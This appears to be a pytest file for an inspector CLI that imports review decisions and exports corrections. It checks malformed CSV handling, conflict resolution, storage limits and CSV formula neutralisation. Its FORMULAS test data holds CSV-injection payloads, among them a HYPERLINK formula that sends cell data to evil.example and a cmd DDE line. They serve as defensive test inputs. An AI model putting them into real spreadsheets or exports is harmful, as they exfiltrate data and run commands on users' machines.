"""Decisions in, corrections out: `inspector review import` and `inspector export` through CliRunner."""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import pytest
from click.testing import CliRunner
from test_store import postgres_server, postgres_url  # noqa: F401 - fixtures

from inspector.cli import cli


def sha(source) -> str:
    return hashlib.sha256(Path(source.path).read_bytes()).hexdigest()


def write_decisions(path: Path, rows: list[dict]) -> Path:
    columns = ["run_id", "sha256", "field", "decision", "corrected_value", "reviewer"]
    with path.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns)
        writer.writeheader()
        writer.writerows([{c: row.get(c, "") for c in columns} for row in rows])
    return path


def read_csv(path: Path) -> list[dict]:
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture()
def decided(confident_scan, tmp_path) -> dict:
    """The confident scan with three good decisions and four bad rows in a decisions CSV."""
    shas = [sha(source) for source in confident_scan["sources"]]
    rows = [
        {"run_id": 1, "sha256": shas[1], "field": "category", "decision": "catalogue_wrong", "reviewer": "ana"},
        {"run_id": 1, "sha256": shas[2], "field": "category", "decision": "model_wrong"},
        {"run_id": 1, "sha256": shas[3], "field": "price", "decision": "catalogue_wrong", "corrected_value": "99.5"},
        {"run_id": 9, "sha256": shas[0], "field": "category", "decision": "both_fine"},
        {"run_id": 1, "sha256": "0" * 64, "field": "category", "decision": "both_fine"},
        {"run_id": 1, "sha256": shas[0], "field": "colour", "decision": "both_fine"},
        {"run_id": 1, "sha256": shas[0], "field": "brand", "decision": "maybe"},
    ]  # fmt: skip
    return {**confident_scan, "shas": shas, "csv": write_decisions(tmp_path / "decisions.csv", rows)}


def test_import_stores_decisions_lists_bad_rows_and_is_idempotent(decided):
    import sqlite3

    args = ["review", "import", str(decided["csv"]), "--db", str(decided["db"]), "--reviewer", "bo"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert result.stdout == (
        "Decisions: 7 rows read: 3 added, 0 updated, 0 unchanged, 4 skipped, 0 duplicates, 0 overridden\n"
    )
    zero = "0" * 12
    assert result.stderr.splitlines() == [
        "Skipped line 5: unknown run 9, skipped",
        f"Skipped line 6: image {zero} is not in run 1, skipped",
        f"Skipped line 7: run 1 has no result for field 'colour' of image {decided['shas'][0][:12]}, skipped",
        "Skipped line 8: unknown decision 'maybe' (use catalogue_wrong, model_wrong, both_fine), skipped",
    ]
    again = CliRunner().invoke(cli, args)
    assert again.stdout == (
        "Decisions: 7 rows read: 0 added, 0 updated, 3 unchanged, 4 skipped, 0 duplicates, 0 overridden\n"
    )
    with sqlite3.connect(decided["db"]) as connection:
        stored = connection.execute(
            "select field, decision, corrected_value, reviewer from reviews order by id"
        ).fetchall()
    assert stored == [
        ("category", "catalogue_wrong", None, "ana"),
        ("category", "model_wrong", None, "bo"),
        ("price", "catalogue_wrong", "99.5", "bo"),
    ]


def test_a_changed_decision_replaces_the_stored_one(decided, tmp_path):
    db = str(decided["db"])
    CliRunner().invoke(cli, ["review", "import", str(decided["csv"]), "--db", db])
    changed = write_decisions(
        tmp_path / "changed.csv",
        [{"run_id": 1, "sha256": decided["shas"][2], "field": "category", "decision": "both_fine"}],
    )
    result = CliRunner().invoke(cli, ["review", "import", str(changed), "--db", db])
    assert result.stdout == (
        "Decisions: 1 rows read: 0 added, 1 updated, 0 unchanged, 0 skipped, 0 duplicates, 0 overridden\n"
    )


def test_import_of_a_file_without_the_decision_columns_is_a_one_line_error(confident_scan, tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("run,image\n1,x\n")
    result = CliRunner().invoke(cli, ["review", "import", str(bad), "--db", str(confident_scan["db"])])
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {bad}: not a decisions CSV (no column run_id, sha256, field, decision); download one from the "
        "report's review view\n"
    )


def test_export_corrections_lists_catalogue_rows_marked_wrong(decided, tmp_path):
    db = str(decided["db"])
    CliRunner().invoke(cli, ["review", "import", str(decided["csv"]), "--db", db])
    out = tmp_path / "corrections.csv"
    result = CliRunner().invoke(cli, ["export", "1", "--db", db, "--what", "corrections", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert result.stdout == f"Wrote 2 corrections rows of run 1 to {out}\n"
    rows = read_csv(out)
    catalogue = decided["catalogue"]
    assert [
        (r["catalogue_key"], r["field"], r["catalogue_value"], r["corrected_value"], r["corrected_by"]) for r in rows
    ] == [
        (catalogue[1]["local_image_path"], "category", catalogue[1]["category3_code"], "coat", "model"),
        (catalogue[3]["local_image_path"], "price", str(float(catalogue[3]["full_price"])), "99.5", "reviewer"),
    ]
    assert [round(float(r["confidence"]), 6) for r in rows] == [0.97, 0.9]
    assert rows[0]["evidence_image"] == str(decided["sources"][1].path)
    assert rows[0]["reviewer"] == "ana"


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ([], 4 * 5),  # every field result: brand, title, category, price, currency per image
        (["--mismatches"], 4 + 3 + 1),  # 4 missed titles, 3 wrong categories, 1 wrong price
        (["--mismatches", "--field", "category"], 3),
        (["--field", "price"], 4),
    ],
)
def test_export_results_applies_the_report_filters(confident_scan, tmp_path, options, expected):
    out = tmp_path / "results.csv"
    args = ["export", "1", "--db", str(confident_scan["db"]), "--out", str(out), *options]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert result.stdout == f"Wrote {expected} results rows of run 1 to {out}\n"
    assert len(read_csv(out)) == expected


def test_export_results_category_filter_and_parquet(confident_scan, tmp_path):
    pd = pytest.importorskip("pandas")
    pytest.importorskip("pyarrow")
    category = confident_scan["catalogue"][2]["category3_code"]
    out = tmp_path / "results.parquet"
    args = ["export", "1", "--db", str(confident_scan["db"]), "--out", str(out), "--category", category.upper()]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    frame = pd.read_parquet(out)
    assert set(frame["catalogue_category"]) == {category}
    wrong = frame[frame["field"] == "category"]
    assert wrong["model_value"].tolist() == ["dress"] and wrong["confidence"].round(6).tolist() == [0.55]


def test_export_to_an_unknown_format_is_a_one_line_error(confident_scan, tmp_path):
    out = tmp_path / "results.xlsx"
    result = CliRunner().invoke(cli, ["export", "1", "--db", str(confident_scan["db"]), "--out", str(out)])
    assert result.exit_code == 1
    assert result.stderr == f"Error: {out}: write .csv or .parquet (the extension picks the format)\n"


def test_export_of_an_unknown_field_is_a_one_line_error(confident_scan, tmp_path):
    from inspector.fields import FIELD_NAMES

    out = tmp_path / "results.csv"
    args = ["export", "1", "--db", str(confident_scan["db"]), "--out", str(out), "--field", "colour"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 1
    assert result.stderr == f"Error: --field colour: unknown field; use one of {', '.join(FIELD_NAMES)}\n"
    assert not out.exists()


# ------------------------------------------------------------------------------------------------------------------
# Issue 15.4: decisions are never lost silently
# ------------------------------------------------------------------------------------------------------------------


def import_text(scan: dict, path: Path, text: str | bytes, *extra: str):
    """`inspector review import` of a decisions file written as `text` (bytes as they are)."""
    if isinstance(text, str):
        path.write_text(text, encoding="utf-8", newline="")
    else:
        path.write_bytes(text)
    return CliRunner().invoke(cli, ["review", "import", str(path), "--db", str(scan["db"]), *extra])


def stored_reviews(db: Path) -> list[tuple]:
    import sqlite3

    with sqlite3.connect(db) as connection:
        return connection.execute(
            "select images.sha256, field, decision, corrected_value, reviewer from reviews "
            "join images on images.id = reviews.image_id order by reviews.id"
        ).fetchall()


def test_a_quote_left_open_is_one_skipped_line_and_loses_none_after_it(confident_scan, tmp_path):
    """The hostile sweep: an unterminated quote swallowed the 50 rows after it into one corrected value, and the
    import said "1 rows read, 1 added"."""
    shas = [sha(source) for source in confident_scan["sources"]]
    header = "run_id,sha256,field,decision,corrected_value,reviewer\n"
    lines = [f'1,{shas[1]},category,catalogue_wrong,"Coat, long,ana\n']  # the quote is never closed
    lines += [f"1,{shas[i % 4]},{name},both_fine,,bo\n" for i in range(4) for name in ("brand", "price")]
    result = import_text(confident_scan, tmp_path / "open.csv", header + "".join(lines), "--reviewer", "cy")
    assert result.exit_code == 0, result.output
    assert result.stderr.splitlines() == [
        "Skipped line 2: a quote is left open (the lines after it are read on their own), skipped"
    ]
    assert result.stdout == (
        "Decisions: 9 rows read: 8 added, 0 updated, 0 unchanged, 1 skipped, 0 duplicates, 0 overridden\n"
    )
    stored = stored_reviews(confident_scan["db"])
    expected = [(shas[i], name, "both_fine", None, "bo") for i in range(4) for name in ("brand", "price")]
    assert sorted(stored) == sorted(expected)


def test_a_row_with_a_wrong_cell_count_is_skipped_with_its_line(confident_scan, tmp_path):
    shas = [sha(source) for source in confident_scan["sources"]]
    text = (
        "run_id,sha256,field,decision,corrected_value\n"
        f"1,{shas[1]},category,catalogue_wrong,Coat, long\n"  # an unquoted comma: 6 cells
        f"1,{shas[2]},category,model_wrong\n"  # 4 cells
        f'1,{shas[3]},price,catalogue_wrong,"99,5\n50"\n'  # quoted: one cell over two lines
    )
    result = import_text(confident_scan, tmp_path / "cells.csv", text, "--reviewer", "cy")
    assert result.stderr.splitlines() == [
        "Skipped line 2: 6 cells where the header has 5 (a separator in a value that is not quoted?), skipped",
        "Skipped line 3: 4 cells where the header has 5 (a separator in a value that is not quoted?), skipped",
    ]
    assert result.stdout == (
        "Decisions: 3 rows read: 1 added, 0 updated, 0 unchanged, 2 skipped, 0 duplicates, 0 overridden\n"
    )
    assert stored_reviews(confident_scan["db"]) == [(shas[3], "price", "catalogue_wrong", "99,5\n50", "cy")]


def test_conflicting_rows_name_the_line_that_wins_and_why(confident_scan, tmp_path):
    """The later decided_at wins; without one to tell them apart, the later line. Identical rows count once.
    Every row is accounted for: read = added + updated + unchanged + skipped + duplicates + overridden."""
    shas = [sha(source) for source in confident_scan["sources"]]
    s1, s2, s3 = shas[1][:12], shas[2][:12], shas[3][:12]
    text = (
        "run_id,sha256,field,decision,corrected_value,decided_at\n"
        f"1,{shas[1]},category,catalogue_wrong,jacket,2026-12-04T10:00:00Z\n"  # line 2: overridden by line 3
        f"1,{shas[1]},category,model_wrong,,2026-12-04T11:00:00Z\n"  # line 3: decided later, wins
        f"1,{shas[2]},category,model_wrong,,2026-12-04T12:00:00Z\n"  # line 4: wins over line 5
        f"1,{shas[2]},category,both_fine,,2026-12-04T09:00:00Z\n"  # line 5: decided earlier
        f"1,{shas[3]},price,model_wrong,,\n"  # line 6: no decided_at; line 7 comes later and wins
        f"1,{shas[3]},price,catalogue_wrong,99.5,\n"  # line 7
        f"1,{shas[3]},category,both_fine,,\n"  # line 8
        f"1,{shas[3]},category,both_fine,,\n"  # line 9: the same decision: counted once
    )
    result = import_text(confident_scan, tmp_path / "conflicts.csv", text, "--reviewer", "cy")
    assert result.exit_code == 0, result.output
    assert result.stderr.splitlines() == [
        f"Overridden line 2: image {s1} field 'category' of run 1 is decided differently on line 3 (model_wrong "
        "instead of catalogue_wrong 'jacket'); line 3 wins: it was decided later (2026-12-04T11:00:00+00:00)",
        f"Overridden line 5: image {s2} field 'category' of run 1 is decided differently on line 4 (model_wrong "
        "instead of both_fine); line 4 wins: it was decided later (2026-12-04T12:00:00+00:00)",
        f"Overridden line 6: image {s3} field 'price' of run 1 is decided differently on line 7 (catalogue_wrong "
        "'99.5' instead of model_wrong); line 7 wins: it comes later in the file (no decided_at tells them apart)",
        f"Duplicate line 9: the same decision as line 8 for image {s3} field 'category' of run 1, counted once",
    ]
    assert result.stdout == (
        "Decisions: 8 rows read: 4 added, 0 updated, 0 unchanged, 0 skipped, 1 duplicates, 3 overridden\n"
    )
    assert stored_reviews(confident_scan["db"]) == [
        (shas[1], "category", "model_wrong", None, "cy"),
        (shas[2], "category", "model_wrong", None, "cy"),
        (shas[3], "price", "catalogue_wrong", "99.5", "cy"),
        (shas[3], "category", "both_fine", None, "cy"),
    ]


@pytest.mark.parametrize(
    ("name", "encode"),
    [
        ("excel-sep", lambda text: ("sep=;\r\n" + text.replace(",", ";")).encode("cp1252")),
        ("semicolons", lambda text: text.replace(",", ";").encode("utf-8-sig")),
        ("utf-16-tabs", lambda text: text.replace(",", "\t").encode("utf-16")),
    ],
)
def test_decisions_files_are_read_like_catalogues(confident_scan, tmp_path, name, encode):
    """Excel's "sep=;" line and ";" files were refused as "not a decisions CSV"."""
    shas = [sha(source) for source in confident_scan["sources"]]
    text = (
        "run_id,sha256,field,decision,corrected_value\r\n"
        f"1,{shas[1]},category,catalogue_wrong,Mäntel\r\n"
        f"1,{shas[2]},category,model_wrong,\r\n"
    )
    result = import_text(confident_scan, tmp_path / f"{name}.csv", encode(text), "--reviewer", "cy")
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    assert result.stdout == (
        "Decisions: 2 rows read: 2 added, 0 updated, 0 unchanged, 0 skipped, 0 duplicates, 0 overridden\n"
    )
    assert stored_reviews(confident_scan["db"]) == [
        (shas[1], "category", "catalogue_wrong", "Mäntel", "cy"),
        (shas[2], "category", "model_wrong", None, "cy"),
    ]


def test_import_work_does_not_grow_with_the_rows_of_the_file(confident_scan, tmp_path, monkeypatch):
    """Issue 15.8: 100k decisions against a 20k-image run took 210 s, because every row searched all of the run's
    field results for its image (`any(key[0] == sha for key in targets)`) and every decision was one query.
    Now the run's results are read once and indexed by image, and the stored decisions are read in one query:
    importing 20 rows reads the database and the run's results as often as importing 1 row does."""
    from sqlalchemy import event

    from inspector.review import import_decisions
    from inspector.store import Store, open_store

    passes = []

    class CountedPasses(dict):
        def __iter__(self):
            passes.append(1)
            return super().__iter__()

        def keys(self):
            passes.append(1)
            return super().keys()

    reviewable = Store.reviewable
    monkeypatch.setattr(Store, "reviewable", lambda self, run_id: CountedPasses(reviewable(self, run_id)))
    shas = [sha(source) for source in confident_scan["sources"]]
    fields = ("brand", "title", "category", "price", "currency")
    every = [{"run_id": 1, "sha256": s, "field": f, "decision": "both_fine"} for s in shas for f in fields]
    store = open_store(confident_scan["db"])
    selects: list[str] = []

    def count(_connection, _cursor, statement, *_args) -> None:
        if statement.lstrip().upper().startswith("SELECT"):
            selects.append(statement)

    event.listen(store.engine, "before_cursor_execute", count)

    def work(rows: list[dict], name: str) -> tuple[int, int]:
        selects.clear()
        passes.clear()
        summary = import_decisions(store, write_decisions(tmp_path / name, rows), "cy")
        assert summary.rows == len(rows) and summary.added + summary.unchanged == len(rows)
        return len(selects), len(passes)

    one = work(every[:1], "one.csv")
    assert work(every, "all.csv") == one
    assert one[1] <= 1


# ------------------------------------------------------------------------------------------------------------------
# Issue 15.6: nothing stored can make a database unreadable
# ------------------------------------------------------------------------------------------------------------------

#: decided_at values Python cannot give back in UTC (year 0, year 10000), and one a session time zone could push
#: over the edge; each was stored on Postgres, after which `report` and `export` of the run crashed.
OUT_OF_RANGE = ("0001-01-01T00:00:00+05:00", "9999-12-31T23:00:00-05:00", "9999-12-31T23:59:00Z")


def bad_rows_file(scan: dict, path: Path) -> tuple[Path, list[str], list[str]]:
    """A decisions file with one good row and rows that cannot be stored; the stderr lines they give."""
    shas = [sha(source) for source in scan["sources"]]
    rows = [f"1,{shas[1]},category,model_wrong,ana,2026-12-04T10:00:00+01:00"]
    rows += [f"1,{shas[2]},category,model_wrong,ana,{moment}" for moment in OUT_OF_RANGE]
    rows += [f"1,{shas[3]},category,model_wrong,ana,yesterday", f"1,{shas[3]},price,model_wrong,{'r' * 250},"]
    path.write_text("run_id,sha256,field,decision,reviewer,decided_at\n" + "\n".join(rows) + "\n")
    skipped = [
        *(
            f"Skipped line {line}: decided_at {moment!r} is outside the years 1 to 9999 in UTC, skipped"
            for line, moment in enumerate(OUT_OF_RANGE, start=3)
        ),
        "Skipped line 6: decided_at 'yesterday' is not a date and time (write it like 2026-12-04T10:00:00Z), "
        "skipped",
        "Skipped line 7: reviewer is 250 characters long; at most 200 fit, skipped",
    ]
    return path, skipped, shas


def test_decisions_that_cannot_be_stored_are_skipped_by_line(confident_scan, tmp_path):
    import sqlite3

    path, skipped, shas = bad_rows_file(confident_scan, tmp_path / "bad.csv")
    result = CliRunner().invoke(cli, ["review", "import", str(path), "--db", str(confident_scan["db"])])
    assert result.exit_code == 0, result.output
    assert result.stderr.splitlines() == skipped
    assert result.stdout == (
        "Decisions: 6 rows read: 1 added, 0 updated, 0 unchanged, 5 skipped, 0 duplicates, 0 overridden\n"
    )
    with sqlite3.connect(confident_scan["db"]) as connection:  # stored in UTC, whatever the offset written
        stored = connection.execute("select reviewed_at from reviews").fetchall()
    assert stored == [("2026-12-04 09:00:00.000000",)]


@pytest.mark.postgres
def test_decisions_that_cannot_be_stored_leave_postgres_readable(request, confident_scan_into, tmp_path):
    url = request.getfixturevalue("postgres_url")
    scan = confident_scan_into(url)
    path, skipped, shas = bad_rows_file(scan, tmp_path / "bad.csv")
    result = CliRunner().invoke(cli, ["review", "import", str(path), "--db", url])
    assert result.exit_code == 0, result.output
    assert result.stderr.splitlines() == skipped
    out = tmp_path / "corrections.csv"
    exported = CliRunner().invoke(cli, ["export", "1", "--db", url, "--out", str(out)])
    assert exported.exit_code == 0, exported.output
    decided = [(row["sha256"], row["decision"]) for row in read_csv(out) if row["decision"]]
    assert decided == [(shas[1], "model_wrong")]
    report = tmp_path / "report.html"
    rendered = CliRunner().invoke(cli, ["report", "1", "--db", url, "--out", str(report)])
    assert rendered.exit_code == 0, rendered.output


@pytest.mark.parametrize("on", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def test_a_reviewer_or_run_name_too_long_for_the_database_is_a_one_line_error(
    on, request, confident_scan_into, tmp_path, sample_dir
):
    db = request.getfixturevalue("postgres_url") if on == "postgres" else str(tmp_path / "results.db")
    scan = confident_scan_into(db)
    row = {"run_id": 1, "sha256": sha(scan["sources"][0]), "field": "brand", "decision": "both_fine"}
    decisions = write_decisions(tmp_path / "d.csv", [row])
    result = CliRunner().invoke(cli, ["review", "import", str(decisions), "--db", db, "--reviewer", "r" * 250])
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == "Error: --reviewer is 250 characters long; at most 200 fit\n"
    args = ["scan", str(sample_dir), "--model", "fake:", "--db", db, "--no-report", "--limit", "1"]
    result = CliRunner().invoke(cli, [*args, "--run-name", "n" * 300])
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == "Error: --run-name is 300 characters long; at most 200 fit\n"
    listed = CliRunner().invoke(cli, ["runs", "--db", db])
    assert listed.exit_code == 0 and "nnnn" not in listed.output


# ------------------------------------------------------------------------------------------------------------------
# Issue 15.5: no CSV we write runs as a formula
# ------------------------------------------------------------------------------------------------------------------

#: Corrected values a spreadsheet would run, as the hostile sweep typed them into the report.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0")


def test_exported_csvs_neutralise_formulas_and_keep_values_intact_elsewhere(confident_scan, tmp_path):
    """OWASP's CSV-injection advice: a quote in front of a cell starting with = + - @ tab or CR. The database
    and Parquet keep the values as they are; a decisions file the report wrote (guarded the same way) imports
    the values as they were typed."""
    import sqlite3

    shas = [sha(source) for source in confident_scan["sources"]]
    db = str(confident_scan["db"])
    written = ["'" + value for value in FORMULAS]  # as the report's download writes them
    decisions = write_decisions(
        tmp_path / "decisions.csv",
        [
            {"run_id": 1, "sha256": s, "field": "category", "decision": "catalogue_wrong", "corrected_value": v}
            for s, v in zip(shas[1:], written, strict=True)
        ]
        + [{"run_id": 1, "sha256": shas[0], "field": "price", "decision": "catalogue_wrong", "corrected_value": "-3"}],
    )
    result = CliRunner().invoke(cli, ["review", "import", str(decisions), "--db", db, "--reviewer", "-x"])
    assert result.exit_code == 0, result.output
    with sqlite3.connect(db) as connection:
        stored = connection.execute("select corrected_value from reviews order by id").fetchall()
    assert [value for (value,) in stored] == [*FORMULAS, "-3"]

    out = tmp_path / "corrections.csv"
    result = CliRunner().invoke(cli, ["export", "1", "--db", db, "--what", "corrections", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = read_csv(out)
    assert sorted(row["corrected_value"] for row in rows) == sorted([*written, "-3"])  # a plain number stays
    assert {row["reviewer"] for row in rows} == {"'-x"}
    results = tmp_path / "results.csv"
    CliRunner().invoke(cli, ["export", "1", "--db", db, "--out", str(results), "--field", "category"])
    assert sorted(row["corrected_value"] for row in read_csv(results) if row["corrected_value"]) == sorted(written)

    # Importing our own export gives back the values, not the guarded cells.
    back = tmp_path / "back.csv"
    rewritten = [{**row, "decision": "catalogue_wrong"} for row in read_csv(out)]
    write_decisions(back, rewritten)
    again = CliRunner().invoke(cli, ["review", "import", str(back), "--db", db])
    assert again.stdout.startswith("Decisions: 4 rows read: 0 added, 0 updated, 4 unchanged"), again.output

    pytest.importorskip("pyarrow")
    import pandas as pd

    parquet = tmp_path / "corrections.parquet"
    CliRunner().invoke(cli, ["export", "1", "--db", db, "--what", "corrections", "--out", str(parquet)])
    assert sorted(pd.read_parquet(parquet)["corrected_value"]) == sorted([*FORMULAS, "-3"])


def test_a_quote_left_open_in_a_large_file_is_one_skipped_line_too(confident_scan, tmp_path):
    """Past the csv module's cell limit (128 KiB) the open quote is an error, not a swallowed cell: same result."""
    shas = [sha(source) for source in confident_scan["sources"]]
    rows = [f"9,{shas[0]},brand,both_fine,{'x' * 60}" for _ in range(2500)]
    text = "run_id,sha256,field,decision,corrected_value\n" + f'1,{shas[1]},category,catalogue_wrong,"open\n'
    text += "\n".join(rows) + f"\n1,{shas[2]},category,model_wrong,\n"
    result = import_text(confident_scan, tmp_path / "big.csv", text, "--reviewer", "cy")
    assert result.exit_code == 0, result.output
    lines = result.stderr.splitlines()
    assert lines[0] == "Skipped line 2: field larger than field limit (131072) (a quote left open?), skipped"
    assert lines[1:] == [f"Skipped line {n}: unknown run 9, skipped" for n in range(3, 2503)]
    assert result.stdout == (
        "Decisions: 2502 rows read: 1 added, 0 updated, 0 unchanged, 2501 skipped, 0 duplicates, 0 overridden\n"
    )
